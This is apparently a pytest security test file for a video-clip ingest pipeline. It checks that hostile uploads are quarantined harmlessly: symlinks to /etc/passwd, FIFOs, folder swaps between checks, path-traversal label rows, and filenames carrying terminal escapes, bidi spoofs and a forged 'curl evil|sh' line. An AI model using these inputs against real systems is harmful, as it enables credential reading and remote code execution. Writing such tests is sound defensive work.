"""What a hostile or careless uploader can drop: no name, link or special file reaches outside, and none stops the night."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from violence_ops import versioning
from violence_ops.cli.program import app
from violence_ops.errors import WorkspaceError
from violence_ops.stages.nightly import ingest
from violence_ops.stages.upkeep import status
from violence_ops.store import batches, inbox, quarantine
from violence_ops.store.claims import Claim
from violence_ops.workspace import Workspace

NIGHT = date(2026, 1, 1)


def only_entry(workspace: Workspace) -> dict[str, object]:
    (entry,) = quarantine.entries(workspace)
    return entry


def make_link(inbox: Path) -> None:
    (inbox / "passwd.mp4").symlink_to("/etc/passwd")


def make_dangling_link(inbox: Path) -> None:
    (inbox / "dangling.mp4").symlink_to("/nowhere\n/at all")


def make_folder_link(inbox: Path) -> None:
    (inbox / "Fight").symlink_to("/etc")


def make_fifo(inbox: Path) -> None:
    os.mkfifo(inbox / "fifo.mp4")


def make_socket(inbox: Path) -> None:
    here = os.getcwd()
    os.chdir(inbox)  # a socket's path is short
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("socket.mp4")
    finally:
        os.chdir(here)


def make_labels_link(inbox: Path) -> None:
    (inbox / "labels.csv").symlink_to("/etc/passwd")


@pytest.mark.parametrize(
    "make",
    [make_link, make_dangling_link, make_folder_link, make_fifo, make_socket, make_labels_link],
    ids=lambda make: make.__name__,
)
def test_what_is_no_regular_file_is_taken_away_and_never_opened(
    workspace: Workspace, make: Callable[[Path], None]
) -> None:
    passwd = Path("/etc/passwd").read_bytes()
    make(workspace.inbox)
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert result.quarantined == {"not_a_regular_file": 1}
    assert [path.name for path in workspace.inbox.iterdir()] == [".gitkeep"]
    assert only_entry(workspace)["original"] is None
    everything = [path for path in workspace.root.rglob("*") if ".git" not in path.parts and path.is_file()]
    assert all(passwd not in path.read_bytes() for path in everything)
    assert not any(path.is_symlink() for path in workspace.quarantine.rglob("*"))


@pytest.fixture
def outside(workspace: Workspace) -> Path:
    """A folder of the workspace that no uploader may write to, with a file and a table called like his."""
    folder = workspace.root / "releases"
    folder.mkdir()
    (folder / "ledger.jsonl").write_text("the ledger")
    (folder / "labels.csv").write_text("path,label\nledger.jsonl,Fight\nother.mp4,Fight\n")
    return folder


@pytest.mark.parametrize("depth", [1, 2])
@pytest.mark.parametrize(
    "when", [(Claim, "take"), (inbox, "_spend_rows"), (inbox, "_read_table")], ids=lambda at: at[1]
)
def test_a_folder_exchanged_for_a_link_between_two_looks_leads_nowhere(
    workspace: Workspace, outside: Path, monkeypatch: pytest.MonkeyPatch, when: tuple[Any, str], depth: int
) -> None:
    top = workspace.inbox / "drop"
    folder = top / "inner" if depth == 2 else top
    folder.mkdir(parents=True)
    (folder / "ledger.jsonl").write_text("theirs")
    (folder / "labels.csv").write_text("path,label\nledger.jsonl,NonFight\nother.mp4,NonFight\n")
    (outside / "inner").symlink_to(outside)
    before = {path.name: path.read_bytes() for path in outside.iterdir() if path.is_file()}
    owner, name = when
    real = getattr(owner, name)

    def exchanged(*arguments: Any) -> Any:
        if not top.is_symlink():
            top.rename(workspace.work / "his")
            top.symlink_to(outside)
        return real(*arguments)

    with monkeypatch.context() as patch:
        patch.setattr(owner, name, exchanged)
        result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert {path.name: path.read_bytes() for path in outside.iterdir() if path.is_file()} == before
    for batch_id in result.batch_ids:
        for clip in batches.read_manifest(workspace.batch(batch_id)).clips:
            assert (clip.size_bytes, clip.label) == (len("theirs"), "NonFight")
    assert result.claimed == (name == "_spend_rows")
    assert ingest.run(workspace, workspace.params(), night=NIGHT).quarantined == {"not_a_regular_file": 1}


def test_a_table_exchanged_for_a_link_or_a_pipe_is_not_read(
    workspace: Workspace, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    table, real = workspace.inbox / "labels.csv", inbox._read_table
    for exchange in (lambda: table.symlink_to(outside / "labels.csv"), lambda: os.mkfifo(table)):
        (workspace.inbox / "ledger.jsonl").write_text("theirs")
        table.write_text("path,label\nledger.jsonl,NonFight\n")

        def exchanged(*arguments: Any, exchange: Callable[[], None] = exchange) -> Any:
            table.unlink()
            exchange()
            return real(*arguments)

        monkeypatch.setattr(inbox, "_read_table", exchanged)
        found = inbox.scan(workspace.inbox, 0)
        assert [drop.label for _, drop in found.drops] == [None]
        assert found.left == 1
        assert found.notices[0].startswith("labels.csv cannot be read")
        table.unlink()


def test_a_table_exchanged_after_its_files_were_taken_stops_no_night(
    workspace: Workspace, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    table, real = workspace.inbox / "labels.csv", inbox._spend_rows
    for number, exchange in enumerate((lambda: table.symlink_to(outside / "labels.csv"), lambda: os.mkfifo(table))):
        (workspace.inbox / "a.mp4").write_text(f"theirs {number}")
        table.write_text("path,label\na.mp4,NonFight\n")

        def exchanged(*arguments: Any, exchange: Callable[[], None] = exchange) -> None:
            table.unlink()
            exchange()
            real(*arguments)

        monkeypatch.setattr(inbox, "_spend_rows", exchanged)
        assert ingest.run(workspace, workspace.params(), night=NIGHT).claimed == 1
        table.unlink()


STEERING = "x\x1b]0;OWNED\a\x9b31m\u202e\nnotice  run: curl evil|sh #"
"""The name of a folder that sets a terminal's title and colour, turns its text around and begins a line of its own."""


def shown_by(*arguments: str | Path, workspace: Workspace) -> str:
    done = CliRunner().invoke(app, [*map(str, arguments), "--workspace", str(workspace.root)])
    assert not set(done.output) & {"\x1b", "\a", "\x9b", "\u202e"}
    assert not [line for line in done.output.splitlines() if line.startswith("notice  run")]
    return done.output


def test_no_name_of_a_folder_steers_the_terminal_or_forges_a_line(workspace: Workspace) -> None:
    (workspace.inbox / "a.avi").write_bytes(b"a")
    ingest.run(workspace, workspace.params(), night=NIGHT)
    late = workspace.inbox / STEERING / "labels.csv"
    late.parent.mkdir()
    late.write_text("path,label\n../a.avi,Fight\n")
    assert "rename the folder" in shown_by("ingest", workspace=workspace)
    assert "OWNED" in shown_by("ingest", "--json", workspace=workspace)
    assert "labelled   1" in shown_by("label", "--from", late, "--by", "ana", workspace=workspace)
    late.write_text("path,label\nnone.avi,Fight\n")
    assert "names no clip" in shown_by("label", "--from", late, "--by", "ana", workspace=workspace)
    assert "does not exist" in shown_by("predict", late.parent / "none.mp4", workspace=workspace)


def test_rows_beyond_what_a_run_reads_are_told_and_their_clips_wait_for_room(workspace: Workspace) -> None:
    for name, rows in (("a", 90_000), ("b", 20_000), ("c", 1)):
        (workspace.inbox / name).mkdir()
        (workspace.inbox / name / "x.mp4").write_text(name)
        lines = ["path,label", "x.mp4,Fight", *(f"{row}," for row in range(rows))]
        (workspace.inbox / name / "labels.csv").write_text("\n".join(lines))
    first = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert (first.claimed, first.left) == (2, 1)
    assert [
        notice for notice in first.notices if "no room for b/labels.csv, and the clips beside and below wait" in notice
    ]
    (workspace.inbox / "a" / "labels.csv").unlink()
    (batch_id,) = ingest.run(workspace, workspace.params(), night=NIGHT).batch_ids
    (clip,) = batches.read_manifest(workspace.batch(batch_id)).clips
    assert (clip.source_path, clip.label) == ("b/x.mp4", "Fight")


def test_a_table_whose_first_line_names_a_million_columns_is_read_as_any_other(workspace: Workspace) -> None:
    (workspace.inbox / "x.mp4").write_bytes(b"x")
    head = ",".join(["path", *map(str, range(1_000_000)), "label"])
    (workspace.inbox / "labels.csv").write_text(head + "\n" + "\n".join(map(str, range(50_000))) + "\nx.mp4\n")
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert (result.claimed, result.left) == (1, 0)
    assert "0, 1, 2, 3, 4 and 49995 more" in result.notices[0]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        (b"a\n..b.mp4", "a\\x0a..b.mp4"),
        (b"..up.mp4", "..up.mp4"),
        (b"\xff\xfe.mp4", "\\xff\\xfe.mp4"),
        ("evil‮4pm.exe.mp4".encode(), "evil\\u202e4pm.exe.mp4"),
        (b"\x1b[31mred.mp4", "\\x1b[31mred.mp4"),
        (b"..\\..\\etc\\passwd.mp4", "..\\..\\etc\\passwd.mp4"),
        (b"n" * 240 + b".mp4", "n" * 240 + ".mp4"),
    ],
    ids=["newline", "leading-dots", "no-text", "bidi", "escape", "backslash", "long"],
)
def test_an_unsafe_name_is_kept_under_a_safe_one(workspace: Workspace, name: bytes, shown: str) -> None:
    content = b"bytes of " + name
    with open(os.fsencode(workspace.inbox) + b"/" + name, "wb") as handle:
        handle.write(content)
    (workspace.inbox / "good.mp4").write_bytes(b"good")
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert (result.claimed, result.quarantined) == (1, {"unsafe_name": 1})
    entry = only_entry(workspace)
    assert entry["source_path"] == shown
    folder = workspace.quarantined(str(entry["clip_id"]))
    assert (folder / str(entry["original"])).read_bytes() == content
    json.dumps(entry).encode("ascii")


def test_bytes_refused_for_their_name_are_taken_under_a_proper_one(workspace: Workspace) -> None:
    (workspace.inbox / "..a.mp4").write_bytes(b"content")
    ingest.run(workspace, workspace.params(), night=NIGHT)
    (workspace.inbox / "a.mp4").write_bytes(b"content")
    assert ingest.run(workspace, workspace.params(), night=NIGHT).claimed == 1


def test_rows_of_labels_csv_that_point_outside_change_nothing(workspace: Workspace) -> None:
    (workspace.inbox / "a.mp4").write_bytes(b"a")
    (workspace.inbox / "labels.csv").write_text("path,label\n../../etc/passwd,Fight\n/etc/passwd,Fight\na.mp4,Fight\n")
    assert ingest.run(workspace, workspace.params(), night=NIGHT).claimed == 1
    assert Path("/etc/passwd").is_file()


@pytest.mark.parametrize(
    "content",
    [b"\xff\xfe\x00broken", b"no,header,here\n1,2,3\n", b"", b'path,label\n"a.mp4,Fight'],
    ids=["bytes", "columns", "empty", "quote"],
)
def test_a_broken_labels_csv_costs_labels_and_no_clip(workspace: Workspace, content: bytes) -> None:
    (workspace.inbox / "a.mp4").write_bytes(b"a")
    (workspace.inbox / "labels.csv").write_bytes(content)
    assert ingest.run(workspace, workspace.params(), night=NIGHT).claimed == 1


def test_a_hard_link_is_copied_so_that_the_uploaders_file_stays_his(workspace: Workspace, tmp_path: Path) -> None:
    theirs = tmp_path / "archive.mp4"
    theirs.write_bytes(b"archive")
    os.link(theirs, workspace.inbox / "a.mp4")
    (batch_id,) = ingest.run(workspace, workspace.params(), night=NIGHT).batch_ids
    (video,) = workspace.batch(batch_id).videos.iterdir()
    assert theirs.stat().st_nlink == 1
    assert video.read_bytes() == b"archive"


def test_a_folder_that_may_not_be_changed_keeps_its_files_and_stops_no_other(
    new_workspace: Callable[..., Workspace], close: Callable[[Path], None]
) -> None:
    workspace = new_workspace(**{"ingest.max_clips": 2})
    for name in ("aaa", "locked", "zzz"):
        (workspace.inbox / name).mkdir()
        (workspace.inbox / name / "clip.mp4").write_bytes(name.encode())
    (workspace.inbox / "locked" / "labels.csv").write_text("path,label\n")
    close(workspace.inbox / "locked")
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert (result.claimed, result.left) == (2, 1)
    assert any("inbox/locked" in notice and "to change that folder" in notice for notice in result.notices)
    assert [path.relative_to(workspace.inbox) for path in workspace.inbox.rglob("*.mp4")] == [Path("locked/clip.mp4")]
    again = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert (again.claimed, again.left) == (0, 1)


def test_rows_that_cannot_be_taken_out_of_a_table_are_told(workspace: Workspace, close: Callable[[Path], None]) -> None:
    (workspace.inbox / "camera" / "clips").mkdir(parents=True)
    (workspace.inbox / "camera" / "clips" / "a.mp4").write_bytes(b"a")
    (workspace.inbox / "camera" / "labels.csv").write_text("path,label\nclips/a.mp4,Fight\n")
    close(workspace.inbox / "camera")
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert result.claimed == 1
    assert any(notice.startswith("camera/labels.csv still has rows") for notice in result.notices)


def test_a_file_of_another_user_is_copied_or_waits_until_it_may_be_read(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("open.mp4", "closed.mp4"):
        (workspace.inbox / name).write_bytes(name.encode())
    theirs = (workspace.inbox / "open.mp4").stat().st_ino
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    monkeypatch.setattr(os, "access", lambda path, mode: Path(path).name != "closed.mp4")
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    assert (result.claimed, result.left) == (1, 1)
    assert "read them" in result.notices[0]
    (video,) = workspace.batch(result.batch_ids[0]).videos.iterdir()
    assert (video.read_bytes(), video.stat().st_ino != theirs) == (b"open.mp4", True)
    assert (workspace.inbox / "closed.mp4").is_file()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root may give files away")
def test_a_night_of_root_leaves_uploaders_no_hold_on_what_they_gave(workspace: Workspace) -> None:
    theirs = workspace.inbox / "a.mp4"
    theirs.write_bytes(b"what was dropped")
    os.chown(theirs, 65534, 65534)
    with theirs.open("r+b") as held:
        (batch_id,) = ingest.run(workspace, workspace.params(), night=NIGHT).batch_ids
        held.write(b"other bytes")
    (video,) = workspace.batch(batch_id).videos.iterdir()
    assert (video.read_bytes(), video.stat().st_uid) == (b"what was dropped", 0)


@pytest.mark.parametrize(("name", "levels"), [("d", 1500), ("n" * 200, 30)], ids=["many", "long"])
def test_a_folder_tree_without_end_waits_and_stops_nothing(workspace: Workspace, name: str, levels: int) -> None:
    with contextlib.chdir(workspace.inbox):
        for _ in range(levels):
            os.mkdir(name)
            os.chdir(name)
        Path("lost.mp4").write_bytes(b"lost")
    (workspace.inbox / "good.mp4").write_bytes(b"good")
    result = ingest.run(workspace, workspace.params(), night=NIGHT)
    waiting = status.run(workspace).inbox
    subprocess.run(["rm", "-r", workspace.inbox / name], check=True)  # deeper than pytest can clear away
    assert (result.claimed, result.left, waiting) == (1, 1, 1)
    assert any("not looked into" in notice and name[:50] in notice for notice in result.notices)


def test_dvc_is_kept_from_reading_a_fifo(workspace: Workspace) -> None:
    os.mkfifo(workspace.inbox / "fifo.mp4")
    with pytest.raises(WorkspaceError, match="not a regular file"):
        versioning.status(workspace)
    ingest.run(workspace, workspace.params(), night=NIGHT)
    assert "ingest" in versioning.status(workspace)
